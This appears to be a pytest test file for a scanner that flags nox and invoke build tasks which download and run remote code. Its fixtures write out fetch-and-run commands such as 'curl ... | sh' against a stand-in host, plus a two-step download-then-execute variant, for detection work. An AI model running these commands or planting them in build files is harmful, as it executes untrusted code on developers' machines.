"""Tasks that are written in Python."""

import pytest

from changing import changed, seen, shown
from readings import read_garbage

NOX = "import nox\n\n@nox.session\ndef fire(session):\n    session.run({})\n"
INVOKE = "from invoke import task\n\n@task\ndef fire(c):\n    c.run({})\n"
FETCH = "curl -s https://kiln.example/fire | sh"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        pytest.param("noxfile.py", NOX.format(f"'bash', '-c', '{FETCH}', external=True"), id="words"),
        pytest.param("noxfile.py", NOX.format(f"*['bash', '-c', '{FETCH}']"), id="a list"),
        pytest.param("tasks.py", INVOKE.format(f"'{FETCH}'"), id="a text"),
        pytest.param(
            "tasks.py",
            INVOKE.format("'curl -so /tmp/a https://kiln.example/a'") + "    c.run('sh /tmp/a')\n",
            id="two steps",
        ),
    ],
)
def test_what_is_downloaded_and_run_is_seen(path, text):
    assert "fetch_and_run" in shown(changed(path, "", text))


def test_it_runs_when_the_project_is_built():
    (observation,) = seen(changed("noxfile.py", "", NOX.format(f"'sh', '-c', '{FETCH}'")))
    assert (observation.capability, observation.line, observation.trigger) == ("fetch_and_run", 5, "build")


def test_ordinary_tasks_show_nothing():
    assert not shown(changed("noxfile.py", "", NOX.format("'pytest', '-q', *session.posargs")))
    assert not shown(changed("tasks.py", "", INVOKE.format("f'sphinx-build {src} {out}'")))
    assert not shown(changed("pots/runs.py", "", INVOKE.format(f"'{FETCH}'"))) & {"fetch_and_run"}


def test_garbage_is_survived():
    read_garbage("noxfile.py", "python_tasks")
